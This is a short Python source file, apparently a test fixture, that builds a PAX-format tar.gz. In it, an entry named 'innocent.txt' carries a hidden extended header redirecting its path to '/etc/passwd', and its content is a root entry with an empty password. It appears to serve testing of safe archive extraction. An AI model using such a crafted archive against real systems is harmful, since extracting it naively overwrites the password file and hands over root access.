"""A tar in which one name begins at the root, put there by an extended header that nobody sees in a listing."""

import io
import tarfile


def build(where, right):
    files = {"basics.py": b"from right import *\n", "right.py": right, "innocent.txt": b"root::0:0:::\n"}
    with tarfile.open(where.with_name(f"{where.name}.tar.gz"), "w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            if name == "innocent.txt":
                entry.pax_headers = {"path": "/etc/passwd"}
            archive.addfile(entry, io.BytesIO(data))
